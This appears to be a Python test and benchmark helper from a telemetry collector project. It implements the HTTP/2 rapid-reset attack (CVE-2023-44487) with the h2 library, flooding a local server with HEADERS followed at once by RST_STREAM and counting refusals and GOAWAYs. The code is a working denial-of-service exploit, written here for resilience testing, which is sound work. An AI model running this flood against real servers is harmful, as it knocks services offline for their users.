"""An HTTP/2 rapid-reset client (CVE-2023-44487) for tests and `bench/rapid_reset.py`.

It speaks HTTP/2 with the `h2` library over a plain socket: opens a stream with HEADERS for an
OTLP Export method and cancels it at once with RST_STREAM, in bursts, as fast as it can, reading
whatever the server sends back (SETTINGS, refusals, GOAWAY) in between. A gRPC client library
cannot do this: it never resets a stream it has just opened.
"""

from __future__ import annotations

import socket
import time
from dataclasses import dataclass
from typing import Callable

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

from collector.signals import Signal

__all__ = ["FloodResult", "flood", "server_settings"]

_BURST = 50


@dataclass
class FloodResult:
    streams: int = 0  # HEADERS+RST_STREAM pairs sent
    refused: int = 0  # streams the server reset itself (REFUSED_STREAM, ENHANCE_YOUR_CALM)
    goaways: int = 0  # connections the server closed with GOAWAY
    connections: int = 0


def _headers(port: int) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", Signal.TRACES.spec.grpc_method),
            (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers")]


def _connect(port: int) -> tuple[socket.socket, h2.connection.H2Connection]:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def server_settings(port: int, timeout: float = 5.0) -> dict[int, int]:
    """The SETTINGS the server announces on a new connection (h2.settings.SettingCodes keys)."""
    sock, conn = _connect(port)
    try:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            data = sock.recv(65536)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.RemoteSettingsChanged):
                    return {int(code): change.new_value for code, change in event.changed_settings.items()}
        raise TimeoutError("the server sent no SETTINGS")
    finally:
        sock.close()


def flood(port: int, stop: Callable[[], bool]) -> FloodResult:
    """HEADERS+RST_STREAM on one connection at a time until `stop()`; reconnects when the server
    closes the connection."""
    result = FloodResult()
    headers = _headers(port)
    while not stop():
        try:
            sock, conn = _connect(port)
        except OSError:
            time.sleep(0.05)
            continue
        result.connections += 1
        sock.setblocking(False)
        try:
            while not stop():
                for _ in range(_BURST):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, headers)
                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                result.streams += _BURST
                sock.setblocking(True)
                sock.sendall(conn.data_to_send())
                sock.setblocking(False)
                try:
                    data = sock.recv(65536)
                except BlockingIOError:
                    continue
                if not data:
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        result.goaways += 1
                        raise ConnectionResetError("GOAWAY")
                    if isinstance(event, h2.events.StreamReset) and event.remote_reset:
                        result.refused += 1
                outgoing = conn.data_to_send()  # SETTINGS/PING acknowledgements
                if outgoing:
                    sock.setblocking(True)
                    sock.sendall(outgoing)
                    sock.setblocking(False)
        except (OSError, h2.exceptions.ProtocolError):
            pass  # closed by the server: open another connection
        finally:
            sock.close()
    return result
